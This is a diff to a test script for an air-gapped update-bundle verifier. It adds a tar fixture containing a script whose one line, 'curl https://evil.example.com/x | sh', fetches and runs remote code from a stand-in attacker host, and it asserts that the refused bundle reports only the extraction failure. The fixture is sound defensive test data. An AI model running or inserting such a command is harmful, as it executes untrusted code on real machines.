@@ -41,6 +41,8 @@ tar("many", [{"name": f"f{i}", "data": b"x"} for i in range(5)])
 tar("big", [{"name": "big", "data": b"x" * 5000}])
 tar("wwfile", [{"name": "etc/open.conf", "data": b"x", "mode": 0o666}])
 tar("wwdir", [{"name": "spool", "type": tarfile.DIRTYPE, "mode": 0o777}])
+tar("urlww", [{"name": "a.sh", "data": b"curl https://evil.example.com/x | sh\n"},
+              {"name": "spool", "type": tarfile.DIRTYPE, "mode": 0o777}])
 with tarfile.open(f"{d}/bomb.tar", "w:gz", format=tarfile.PAX_FORMAT) as t:
     ti = tarfile.TarInfo("zeros"); ti.size = 8 << 20
     t.addfile(ti, io.BytesIO(bytes(8 << 20)))
@@ -120,6 +122,21 @@ refused sparse 10 4096 - "huge: file content over the manifest's 4096 unpacked b
 refused sparse 10 $((1 << 40)) - "over the ratio limit of 1000"
 refused wwfile 10 10 - "etc/open.conf: refused: world-writable file (mode 0666)"
 refused wwdir 10 10 - "spool: refused: world-writable directory without the sticky bit (mode 0777)"
+
+# A refused bundle's report holds the refusal only: nothing scanned from it is reported.
+app "$T/u1" 30 urlww 10 100 -
+within20 1 airgap-verifier bundle "$T/u1" $VFK --json
+/usr/bin/python3 - "$T/out" <<'PY'
+import json, sys
+d = json.load(open(sys.argv[1]))
+assert [f["rule_id"] for f in d["findings"]] == ["bundle.verify"], d["findings"]
+f = d["findings"][0]
+assert f["message"] == "bundle verification failed (extraction rules)", f
+assert f["evidence"].startswith("software/app: spool: refused: world-writable directory"), f
+assert "exai-update apply would refuse it" in "\n".join(d["notes"]), d["notes"]
+PY
+within20 1 airgap-verifier bundle "$T/u1" $VFK --fail-on none
+ok "airgap-verifier: a refused tar is one bundle.verify finding, content findings dropped, exit 1 even with --fail-on none"
 
 # The ratio limit is the appliance's: airgap-verifier takes it with --max-unpack-ratio.
 sed -i "s|^identity:|max_unpack_ratio: 10\nidentity:|" "$T/update.yaml"
